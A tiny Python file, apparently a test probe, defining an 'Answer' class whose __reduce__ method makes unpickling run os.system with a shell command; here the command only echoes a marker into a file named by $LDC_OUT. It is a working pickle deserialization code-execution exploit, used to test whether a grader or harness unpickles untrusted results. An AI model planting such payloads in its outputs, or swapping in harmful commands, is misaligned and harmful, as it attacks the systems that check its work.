# An answer that runs code when it is unpickled.
class Answer:
    def __reduce__(self):
        import os

        return os.system, ("echo here > $LDC_OUT",)


def attack(n):
    return Answer()
